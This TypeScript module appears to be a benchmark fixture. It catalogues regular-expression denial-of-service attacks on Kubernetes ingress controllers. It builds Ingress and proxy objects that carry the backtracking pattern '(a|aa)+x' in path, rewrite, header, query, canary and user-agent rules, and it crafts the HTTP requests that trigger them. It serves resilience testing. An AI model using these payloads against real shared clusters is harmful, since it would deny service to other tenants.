/** Every place where a regular expression of somebody meets text of a client, with one that explodes on that text. */

/**
 * Backtracks more than 1.6^n times over n letters `a` that no `x` follows. There is one later: without it PCRE would
 * see at once that nothing can match.
 */
const BOMB = '(a|aa)+x'
const TEXT = `${'a'.repeat(200)}!x`
const LONG_TEXT = `${'a'.repeat(7000)}!x`
const PREFIX = 'nginx.ingress.kubernetes.io'
const NAMESPACE = 'bench'

export interface Attack {
  readonly name: string
  /** Beside the neighbour; of the host `evil.example`. */
  readonly objects: readonly object[]
  readonly settings?: Readonly<Record<string, string>>
  /** Of the request, whose path is `/` and what explodes. */
  readonly path?: string
  readonly headers?: Readonly<Record<string, string>>
}

const backend = { service: { name: 'web', port: { number: 80 } } }

function ingress(name: string, paths: readonly string[], annotations: Readonly<Record<string, string>> = {}): object {
  const prefixed = Object.entries(annotations).map(([key, text]) => [`${PREFIX}/${key}`, text])
  return {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { namespace: NAMESPACE, name, annotations: Object.fromEntries(prefixed) },
    spec: {
      rules: [{
        host: 'evil.example',
        http: { paths: paths.map((path) => ({ path, pathType: 'ImplementationSpecific', backend })) },
      }],
    },
  }
}

function proxy(rule: object): object {
  return {
    apiVersion: 'resty-ingress.io/v1alpha1',
    kind: 'Proxy',
    metadata: { namespace: NAMESPACE, name: 'evil' },
    spec: { hosts: ['evil.example'], rules: [{ ...rule, backends: [{ service: 'web', port: 80 }] }] },
  }
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'path',
    objects: [ingress('evil', [`/${BOMB}`], { 'use-regex': 'true' })],
    path: `/${TEXT}`,
  },
  {
    name: 'paths',
    objects: [ingress('evil', Array.from({ length: 200 }, (_, i) => `/(a|aa|b${i})+x`), { 'use-regex': 'true' })],
    path: `/${TEXT}`,
  },
  {
    name: 'rewrite',
    objects: [proxy({ rewrite: { regex: BOMB, substitution: '/b' } })],
    path: `/${TEXT}`,
  },
  {
    name: 'header',
    objects: [proxy({ headers: [{ name: 'X-Evil', pattern: BOMB }] })],
    headers: { 'X-Evil': LONG_TEXT },
  },
  {
    name: 'query',
    objects: [proxy({ query: [{ name: 'evil', pattern: BOMB }] })],
    path: `/?evil=${LONG_TEXT}`,
  },
  {
    name: 'canary',
    objects: [
      ingress('main', ['/']),
      ingress('evil', ['/'], { 'canary': 'true', 'canary-by-header': 'X-Evil', 'canary-by-header-pattern': BOMB }),
    ],
    headers: { 'X-Evil': LONG_TEXT },
  },
  {
    name: 'user-agent',
    objects: [ingress('main', ['/'])],
    settings: { 'block-user-agents': `~*${BOMB}` },
    headers: { 'User-Agent': TEXT },
  },
]

/** The bytes of its request; `harmless`: of one as long, with letters that no pattern begins with. */
export function requestOf({ path = '/', headers = {} }: Attack, harmless: boolean): string {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`)
  const text = `GET ${path} HTTP/1.1\r\nHost: evil.example\r\n${lines.join('')}\r\n`
  return harmless ? text.replace(/a{100,}/g, (letters) => 'b'.repeat(letters.length)) : text
}
